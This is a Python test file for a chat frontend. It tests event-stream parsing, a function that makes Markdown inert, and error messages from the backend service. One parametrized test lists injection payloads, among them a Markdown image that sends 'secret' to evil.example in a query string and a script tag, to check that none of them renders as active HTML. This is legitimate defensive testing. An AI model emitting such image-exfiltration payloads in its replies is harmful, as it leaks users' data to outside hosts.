"""The chat's pure parts: events, inert Markdown, and what it makes of the service's refusals."""

from __future__ import annotations

import json

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from frontend.client import Answer, Service, ServiceError
from frontend.markup import inert
from frontend.sse import Event, events

RENDERER = MarkdownIt("commonmark", {"html": True})


def test_events_are_read_across_lines_and_comments() -> None:
    lines = [
        ": heartbeat",
        "",
        "event: token",
        'data: {"text": "a"}',
        "",
        "data: one",
        "data:two",
        "",
        "event: lost",
        "",
    ]
    assert list(events(lines)) == [Event("token", '{"text": "a"}'), Event("message", "one\ntwo")]


@pytest.mark.parametrize(
    "attack",
    [
        "![x](https://evil.example/?q=secret)",
        "[click](https://evil.example)",
        "<img src=https://evil.example>",
        "<https://evil.example>",
        "[a]: https://evil.example\n\n![x][a]",
        "<script>alert(1)</script>",
    ],
)
def test_nothing_active_survives(attack: str) -> None:
    html = RENDERER.render(inert(attack))
    assert "<img" not in html
    assert "<a " not in html
    assert "<script" not in html
    assert "evil.example" not in attack or "evil.example" in html


@given(st.text(alphabet="![]()<>a\\\n :/htps.", max_size=60))
def test_no_text_at_all_becomes_an_image_or_a_link(text: str) -> None:
    html = RENDERER.render(inert(text))
    assert "<img" not in html
    assert "<a " not in html


def test_bare_addresses_lose_what_would_link_them() -> None:
    assert "https\\:\u200b//x" in inert("see https://x") or "https\\:" in inert("see https://x")
    assert "https://" not in inert("see https://x")
    assert "www.\u200bx" in inert("www.x.example")


def test_emphasis_and_lists_stay() -> None:
    html = RENDERER.render(inert("**bold**\n\n- one\n- two"))
    assert "<strong>bold</strong>" in html
    assert html.count("<li>") == 2


def answering(status: int, body: object) -> Service:
    return Service("http://api", "t", httpx.MockTransport(lambda _request: httpx.Response(status, json=body)))


def test_a_refusal_is_the_service_s_own_sentence() -> None:
    service = answering(413, {"error": {"code": "too_large", "message": "a.pdf is larger than 50 MB. Split it."}})
    with pytest.raises(ServiceError, match=r"a\.pdf is larger than 50 MB") as refused:
        service.documents()
    assert (refused.value.code, refused.value.status) == ("too_large", 413)


def test_an_answer_that_is_no_refusal_of_ours_still_gets_a_sentence() -> None:
    with pytest.raises(ServiceError, match="answered with status 502"):
        answering(502, "<html>").me()


def test_a_service_that_is_gone_says_what_to_do() -> None:
    def refuse(request: httpx.Request) -> httpx.Response:
        raise httpx.ConnectError("refused", request=request)

    with pytest.raises(ServiceError, match=r"cannot be reached.*try again in a minute"):
        Service("http://api", "t", httpx.MockTransport(refuse)).me()


def sse(name: str, **data: object) -> str:
    return f"event: {name}\ndata: {json.dumps(data)}\n\n"


SOURCE = {"document": "a.pdf", "page": 2, "passage": "p", "score": 0.5}
STREAM = (
    sse("sources", found=True, sources=[SOURCE])
    + sse("token", text="One")
    + sse("token", text=" two")
    + sse("done", conversation_id="c1")
)


def streaming(text: str) -> Service:
    return Service("http://api", "t", httpx.MockTransport(lambda _request: httpx.Response(200, text=text)))


def test_a_streamed_answer_fills_text_sources_and_conversation() -> None:
    answer = Answer()
    assert list(streaming(STREAM).ask("q", answer)) == ["One", " two"]
    assert answer.text == "One two"
    assert answer.sources[0].title == "a.pdf, page 2"
    assert answer.conversation_id == "c1"


def test_an_error_in_the_middle_of_a_stream_is_raised() -> None:
    broken = sse("token", text="One") + sse("error", code="model", message="The model stopped.")
    with pytest.raises(ServiceError, match=r"The model stopped\."):
        list(streaming(broken).ask("q", Answer()))
